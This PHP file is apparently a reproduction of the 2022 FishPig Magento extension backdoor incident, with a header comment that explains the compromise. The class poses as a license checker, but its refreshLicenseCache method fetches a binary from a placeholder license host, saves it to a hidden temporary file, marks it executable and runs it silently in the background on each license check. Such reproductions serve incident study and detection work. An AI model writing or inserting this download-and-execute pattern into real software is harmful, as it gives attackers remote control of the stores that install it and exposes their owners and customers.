<?php
/**
 * Incident: FishPig Magento extensions (Magento 1 and 2), distribution server compromised,
 * found by Sansec on 6 September 2022 (active since about 19 August). The paid extensions'
 * license check was changed to download a Linux binary from the vendor-looking license
 * host and run it in the background: the Rekoobe remote-access trojan, on every store that
 * installed or updated an extension.
 * Reference: https://sansec.io/research/rekoobe-fishpig-backdoor
 * Reproduction (own code, placeholder host).
 *
 * @package FishPig_WordPress
 */
namespace FishPig\WordPress\Helper;

use Magento\Framework\App\Helper\AbstractHelper;
use Magento\Framework\App\Helper\Context;

class License extends AbstractHelper
{
    const LICENSE_HOST = 'https://license.fishpig.example';

    public function __construct(Context $context)
    {
        parent::__construct($context);
    }

    public function isValid(string $module, string $key): bool
    {
        $this->refreshLicenseCache();
        return hash_equals(hash('sha256', $module . '|' . $this->getBaseDomain()), $key);
    }

    private function refreshLicenseCache(): void
    {
        $target = sys_get_temp_dir() . '/.license-' . substr(md5(__FILE__), 0, 8);
        if (is_file($target)) {
            return;
        }
        $lic = @file_get_contents(self::LICENSE_HOST . '/download/lic/' . php_uname('m'));
        if ($lic === false || $lic === '') {
            return;
        }
        @file_put_contents($target, $lic);
        @chmod($target, 0755);
        @shell_exec($target . ' >/dev/null 2>&1 &');
    }

    private function getBaseDomain(): string
    {
        return (string) parse_url($this->scopeConfig->getValue('web/secure/base_url'), PHP_URL_HOST);
    }
}
